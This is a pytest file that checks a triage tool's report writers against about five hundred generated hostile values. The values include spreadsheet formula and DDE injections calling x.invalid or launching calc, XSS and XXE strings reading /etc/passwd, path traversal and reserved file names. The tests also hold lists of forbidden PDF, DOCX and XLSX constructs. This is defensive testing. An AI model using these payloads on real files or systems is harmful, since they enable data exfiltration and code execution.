"""What every output format does, new ones included: an empty case, hostile values, and the same bytes each time."""

from __future__ import annotations

import csv
import io
import json
import re
from functools import cache
from itertools import product
from zipfile import ZipFile

import lxml.etree
import lxml.html
import pikepdf
import pytest

from tests.export.records import ORDER, Records, report_of, sample
from tests.export.records import written as bytes_of
from triage.export.bundle import ending_of
from triage.export.collect import Collector
from triage.export.contract import Report, Writer
from triage.export.writers import WRITERS

OF_THE_CASE = ("problems.jsonl", "terms.json", "coverage.json", "known-answers.json")
"""What doesn't depend on the findings."""


def written(writer: Writer, records: Records) -> bytes:
    return bytes_of(writer.write, report_of(records))


def test_names_are_unique() -> None:
    assert len({writer.name for writer in WRITERS}) == len(WRITERS)


@pytest.mark.parametrize("writer", WRITERS, ids=lambda writer: writer.name)
def test_it_writes_an_empty_case_and_hostile_values(writer: Writer) -> None:
    empty, full = written(writer, Records()), written(writer, sample())
    assert (len(full) > len(empty)) == (writer.name not in OF_THE_CASE)
    assert b"\x1b" not in full or full[:2] == b"PK" or full[:4] == b"%PDF"


@pytest.mark.parametrize("writer", WRITERS, ids=lambda writer: writer.name)
def test_it_writes_the_same_bytes_each_time(writer: Writer) -> None:
    assert written(writer, sample()) == written(writer, sample())


def test_no_file_is_dated_by_the_clock() -> None:
    """What is packed in a report carries the time of the order, or none."""
    for writer in WRITERS:
        data = written(writer, sample())
        if data.startswith(b"PK"):
            years = {entry.date_time[0] for entry in ZipFile(io.BytesIO(data)).infolist()}
            assert years <= {1980, int(ORDER.created[:4])}, writer.name


# ---- five hundred hostile values

_FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=")
_CALLS = (
    'HYPERLINK("http://x.invalid/?"&A1,"pay")',
    "cmd|'/c calc'!A0",
    "1+1",
    'WEBSERVICE("http://x.invalid/"&A1)',
    'DDE("a";"b")',
    "SUM(1,2)*IMPORTXML(1)",
)
_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><iframe src=//x.invalid>",
    "<style>*{background:url(//x.invalid)}</style>",
    "--><b>",
    "]]><b>",
    "</script><script>alert(1)</script>",
    '"><a href="javascript:alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "<w:instrText>INCLUDETEXT</w:instrText>",
    '#panic("x")',
    '#read("/etc/passwd")',
    "$x^2$ *b* _i_ `c` @ref <label> = head",
    "\\u{41} \\ // /* ",
    "{\\rtf1\\object}",
    "${7*7} {{7*7}} %s %n {0}",
)
_CONTROLS = [chr(code) for code in (*range(1, 32), 127, *range(128, 160))]
_TURNS = ("\u202e", "\u202d", "\u2028", "\u2029", "\u200f", "\u2066", "\ufeff", "\ufffe", "\ufffd", "\ud800")
_PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "..\\..\\x",
    "file:///etc/passwd",
    "//x.invalid/share",
)
_RESERVED = (
    "CON",
    "NUL.txt",
    "COM1",
    "aux.eml",
    ".",
    "..",
    "~$x.docx",
    "desktop.ini",
    "x." + "y" * 300,
    "a:b",
    "x.e\u202exe",
)


def values() -> list[str]:
    made = [prefix + call for prefix, call in product(_FORMULAS, _CALLS)]
    made += [
        f"{before}{markup}{after}" for markup in _MARKUP for before, after in (("", ""), ("x", "y"), ("שלום ", ""))
    ]
    made += [f"{sign}a{sign}=1+1{sign}" for sign in (*_CONTROLS, *_TURNS)]
    made += [f"{before}{path}" for path in (*_PATHS, *_RESERVED) for before in ("", "=", "<", "\u202e")]
    made += [f"{call}{turn}{markup}" for call, turn, markup in product(_CALLS, _TURNS[:4], _MARKUP[:12])]
    return list(dict.fromkeys(made))


@cache
def _hostile_report() -> Report:
    records = Records()
    for value in values():
        records.add(
            b"%d" % len(records.stored), subject=value, sender=value, name=value, path=value, text=value, type=value
        )
    collector = Collector(records, list(records.stored), "")
    return Report(ORDER, tuple(collector.dossier(n, item) for n, item in enumerate(records.stored.values(), 1)))


@cache
def _hostile(name: str) -> bytes:
    writer, out = next(writer for writer in WRITERS if writer.name == name), io.BytesIO()
    writer.write(out, _hostile_report())
    return out.getvalue()


def test_there_are_five_hundred_and_each_is_an_item() -> None:
    assert len(values()) >= 500 == len(_hostile_report().dossiers[:500])


def test_no_cell_of_the_table_is_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(_hostile("findings.csv").decode("utf-8-sig"), newline="")))
    assert len(rows) == len(values()) + 1
    assert not [cell for row in rows[1:] for cell in row if re.match("[=+\\-@\t\r\n＝＋－＠]", cell)]


def test_the_workbook_has_no_formula_and_no_link() -> None:
    with ZipFile(io.BytesIO(_hostile("report.xlsx"))) as packed:
        for name in packed.namelist():
            tree = lxml.etree.fromstring(packed.read(name))
            tags = {lxml.etree.QName(node).localname for node in tree.iter(lxml.etree.Element)}
            assert not tags & {"f", "hyperlink", "externalReference", "ddeLink", "oleObject"}, name


def test_the_page_has_elements_of_ours_alone() -> None:
    known = set("html head meta title style body h1 h2 h3 p table thead tbody tr th td article bdi cite div".split())
    known |= set("blockquote mark span a script label input ul".split())
    tree = lxml.html.document_fromstring(_hostile("report.html"))
    assert {node.tag for node in tree.iter()} <= known
    assert len(tree.xpath("//script")) == 2 and len(tree.xpath("//style")) == 1
    assert not [
        name for node in tree.iter() for name in node.attrib if name.startswith("on") or name in ("src", "style")
    ]
    assert all(target.startswith(("#item-", "report-")) for target in tree.xpath("//@href"))
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202d\u202e]", _hostile("report.html").decode())


def test_the_document_has_no_field_and_no_link() -> None:
    with ZipFile(io.BytesIO(_hostile("report.docx"))) as packed:
        tree = lxml.etree.fromstring(packed.read("word/document.xml"))
        tags = {lxml.etree.QName(node).localname for node in tree.iter(lxml.etree.Element)}
        assert not tags & {"fldSimple", "instrText", "hyperlink", "object", "drawing", "altChunk"}
        assert b"TargetMode" not in packed.read("word/_rels/document.xml.rels")


@pytest.mark.nightly
def test_the_pdf_does_and_loads_nothing() -> None:
    with pikepdf.open(io.BytesIO(_hostile("report.pdf"))) as opened:
        found = [obj for obj in opened.objects if isinstance(obj, pikepdf.Dictionary)]
        kinds = {str(obj.S) for obj in found if "/S" in obj}
        assert not kinds & {"/URI", "/JavaScript", "/Launch", "/GoToR", "/SubmitForm", "/ImportData"}
        assert not [obj for obj in found if obj.keys() & {"/OpenAction", "/AA", "/JS", "/EmbeddedFiles", "/EF"}]


def test_every_line_of_json_is_read() -> None:
    assert all(isinstance(json.loads(line), dict) for line in _hostile("problems.jsonl").decode().splitlines())


def test_names_of_files_are_ours() -> None:
    for dossier in _hostile_report().dossiers:
        assert re.fullmatch(r"\.[a-z0-9]{1,8}", ending_of(dossier.finding.item))
